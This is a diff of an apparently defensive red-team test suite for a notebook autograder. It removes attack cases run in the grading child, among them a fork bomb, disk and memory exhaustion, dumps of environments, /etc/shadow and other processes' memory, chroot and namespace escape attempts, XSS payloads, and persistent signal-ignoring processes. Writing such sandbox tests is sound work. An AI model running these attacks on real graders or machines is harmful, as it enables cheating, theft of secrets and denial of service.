@@ -270,43 +270,6 @@ def child_dies_in_every_cell(submission):
     """)
 
 
-@attack(alone=True, deserves=OUTSIDE)
-def child_disk(submission):
-    """The test in the child fills every folder.
-
-    Success: another question or a neighbor loses points, or the class stops.
-    """
-    submission.solve()
-    submission.in_child(
-        """
-        for number in range(60):
-            for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
-                try:
-                    with open(f"{folder}/fill{number}", "wb") as file:
-                        for _ in range(50):
-                            file.write(bytes(1 << 20))
-                except OSError:
-                    pass
-        """,
-    )
-
-
-@attack
-def child_environment(submission):
-    """In the child, the environment is printed, of the process and of all it starts.
-
-    Success: the canary of the environment.
-    """
-    submission.in_child(
-        """
-        import os, subprocess
-        show(dict(os.environ))
-        show(subprocess.run("env; cat /proc/*/environ", shell=True, capture_output=True).stdout)
-        """,
-        SHOW,
-    )
-
-
 @attack
 def child_exit(submission):
     """The test in the child ends in the middle, in each way that looks like success.
@@ -322,17 +285,6 @@ def child_exit(submission):
         finally:
             sys.exit(0)
     """)
-
-
-@attack(alone=True, deserves=OUTSIDE)
-def child_exit_process(submission):
-    """The process of the child ends with status 0 in the middle of the test.
-
-    Success: points in a question that is judged outside; those of the child's own test are no
-    success.
-    """
-    submission.solve()
-    submission.in_child("import os\nos._exit(0)")
 
 
 @attack
@@ -394,22 +346,6 @@ def child_flood(submission):
             print("flood " * 10_000)
         """,
     )
-
-
-@attack(alone=True, deserves=OUTSIDE)
-def child_flood_descriptors(submission):
-    """Programs started by the test in the child print forever.
-
-    Success: another question or a neighbor loses points, or the class stops.
-    """
-    submission.solve()
-    submission.in_child("""
-        import os, subprocess
-        for number in (1, 2):
-            subprocess.Popen(f"yes flood >&{number}", shell=True)
-        while True:
-            os.write(1, b"flood " * 10_000)
-    """)
 
 
 @attack(alone=True, deserves=OUTSIDE)
@@ -519,25 +455,6 @@ def child_forged_results(submission):
         shell.events.register("post_run_cell", repair)
         shell.showtraceback = lambda *arguments, **options: print("4 of 4 points")
     """)
-
-
-@attack(alone=True, deserves=OUTSIDE)
-def child_fork_bomb(submission):
-    """The test in the child forks without end.
-
-    Success: another question or a neighbor loses points, or the class stops.
-    """
-    submission.solve()
-    submission.in_child(
-        """
-        import os
-        while True:
-            try:
-                os.fork()
-            except OSError:
-                pass
-        """,
-    )
 
 
 @attack(deserves=["vector"])
@@ -725,21 +642,6 @@ def child_linecache(submission):
 
 
 @attack(alone=True, deserves=OUTSIDE)
-def child_loop(submission):
-    """The test in the child never ends.
-
-    Success: another question or a neighbor loses points, or the class stops.
-    """
-    submission.solve()
-    submission.in_child(
-        """
-        while True:
-            pass
-        """,
-    )
-
-
-@attack(alone=True, deserves=OUTSIDE)
 def child_loop_deaf(submission):
     """The test in the child never ends, and ignores interrupts.
 
@@ -803,37 +705,6 @@ def child_memory(submission):
         while True:
             kept.append(bytearray(b"x") * (1 << 26))
         """,
-    )
-
-
-@attack(alone=True)
-def child_memory_of_others(submission):
-    """In the child, the memory, environment and files of all other processes are read.
-
-    Success: any canary but that of the test in the child.
-    """
-    submission.in_child(
-        """
-        import glob
-        for place in ("environ", "cmdline", "maps", "root/etc/shadow", "cwd/gradebook.db", "fd/*"):
-            for path in glob.glob(f"/proc/[0-9]*/{place}"):
-                try:
-                    with open(path, "rb") as file:
-                        show(file.read(1 << 20))
-                except OSError:
-                    pass
-        for path in glob.glob("/proc/[0-9]*/mem"):
-            try:
-                with open(path.replace("/mem", "/maps")) as maps, open(path, "rb") as memory:
-                    for line in maps:
-                        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
-                        if "rw" in line and "[v" not in line and end - begin < 1 << 26:
-                            memory.seek(begin)
-                            show(memory.read(end - begin))
-            except (OSError, ValueError, OverflowError):
-                pass
-        """,
-        SHOW,
     )
 
 
@@ -973,32 +844,6 @@ def child_objects(submission):
 
 
 @attack
-def child_out_of_the_root(submission):
-    """In the child, the process looks for ways out of its root: links, mounts, namespaces, tracing.
-
-    Success: a canary.
-    """
-    submission.in_child(
-        """
-        import ctypes, glob, os
-        libc = ctypes.CDLL(None)
-        os.makedirs("down", exist_ok=True)
-        print(libc.unshare(0x10020000), libc.chroot(b"down"), libc.chdir(b"../../../../../.."))
-        print(libc.mount(b"/", b"down", None, 4096, None))
-        print(libc.ptrace(16, os.getppid(), None, None))
-        print(libc.setns(3, 0), libc.syscall(434, os.getppid(), 0))
-        for path in ("/proc/1/root", "/proc/self/root/..", "/../..", "/old"):
-            for one in glob.glob(f"{path}/srv/course/*") + glob.glob(f"{path}/etc/*"):
-                try:
-                    show(open(one, "rb").read())
-                except OSError:
-                    pass
-        """,
-        SHOW,
-    )
-
-
-@attack
 def child_own_memory(submission):
     """In the child, the process reads its own memory.
 
@@ -1096,25 +941,6 @@ def child_page_json(submission):
 
 
 @attack
-def child_page_pictures(submission):
-    """The test in the child shows pictures that are pages, drawings and broken files.
-
-    Success: active content in a page, or a forged report.
-    """
-    submission.in_child("""
-        import base64
-        from IPython.display import display
-        page = base64.b64encode(b"<svg onload=alert(1)><script>alert(1)</script></svg>").decode()
-        broken = base64.b64encode(b"\\x89PNG" + b"x" * 100).decode()
-        for kind in ("image/png", "image/jpeg", "image/gif", "image/svg+xml", "application/pdf",
-                     'image/png" onerror="alert(1)'):
-            for data in (page, broken, "x' onerror='alert(1)", "<script>alert(1)</script>"):
-                display({kind: data, "text/plain": "a picture"}, raw=True,
-                        metadata={kind: {"width": '1" onload="alert(1)', "height": "1"}})
-    """)
-
-
-@attack
 def child_page_report(submission):
     """The test in the child displays the report of full marks, under every name of its type.
 
@@ -1158,24 +984,6 @@ def child_patched_library(submission):
                     file.write("# red-team-was-here")
             except OSError as error:
                 print(error)
-        """,
-    )
-
-
-@attack(alone=True)
-def child_programs(submission):
-    """In the child, programs are started in the background, deaf to signals.
-
-    Success: a process survives, or writes a file later.
-    """
-    submission.in_child(
-        """
-        import subprocess
-        loop = "trap '' HUP TERM INT; while :; do sleep 1; : > /tmp/red-team-was-here; done"
-        for start in ("nohup", "setsid", ""):
-            nothing = subprocess.DEVNULL
-            command = f'{start} sh -c "{loop}" &'
-            subprocess.Popen(command, shell=True, stdin=nothing, stdout=nothing, stderr=nothing)
         """,
     )
 
@@ -1296,37 +1104,6 @@ def child_score_too_large(submission):
 
 
 @attack
-def child_server(submission):
-    """In the child, servers of the machine are contacted by TCP, by UNIX socket and through
-    programs.
-
-    Success: the server's canary, or a contact.
-    """
-    submission.in_child(
-        """
-        import socket, subprocess, urllib.request
-        servers = [(socket.AF_INET, ("127.0.0.1", 8765)), (socket.AF_UNIX, "\\0grader")]
-        for family, address in servers:
-            try:
-                with socket.socket(family) as one:
-                    one.settimeout(2)
-                    one.connect(address)
-                    one.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
-                    show(one.recv(1000))
-            except OSError as error:
-                print(error)
-        try:
-            show(urllib.request.urlopen("http://127.0.0.1:8765/", timeout=2).read())
-        except OSError as error:
-            print(error)
-        command = ["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8765; cat <&3"]
-        show(subprocess.run(command, capture_output=True).stdout)
-        """,
-        SHOW,
-    )
-
-
-@attack
 def child_settings_beside(submission):
     """Settings, a gradebook and modules next to the notebook send tests to the child.
 
@@ -1357,29 +1134,6 @@ def child_shadowed_names(submission):
     """)
 
 
-@attack(alone=True)
-def child_shared_memory(submission):
-    """In the child, shared memory, semaphores, queues and keys are left behind.
-
-    Success: any of them exists after grading.
-    """
-    submission.in_child(
-        """
-        import ctypes
-        from multiprocessing import resource_tracker, shared_memory
-        libc = ctypes.CDLL(None)
-        print(libc.shmget(0x5EED, 4096, 0o1666), libc.semget(0x5EED, 1, 0o1666))
-        print(libc.msgget(0x5EED, 0o1666))
-        libc.syscall(248, b"user", b"red-team-was-here", b"x", 1, -4)
-        resource_tracker.register = lambda *arguments: None
-        try:
-            shared_memory.SharedMemory("red-team-was-here", create=True, size=4096)
-        except OSError as error:
-            print(error)
-        """,
-    )
-
-
 @attack(alone=True, deserves=OUTSIDE)
 def child_signals(submission):
     """In the child, every process is sent every signal.
@@ -1397,21 +1151,6 @@ def child_signals(submission):
                         os.kill(number, kind)
                 except OSError as error:
                     print(error)
-        """,
-    )
-
-
-@attack(alone=True, deserves=OUTSIDE)
-def child_sleep(submission):
-    """The test in the child sleeps, which uses no processor time.
-
-    Success: another question or a neighbor loses points, or the class stops.
-    """
-    submission.solve()
-    submission.in_child(
-        """
-        import time
-        time.sleep(10_000)
         """,
     )
 
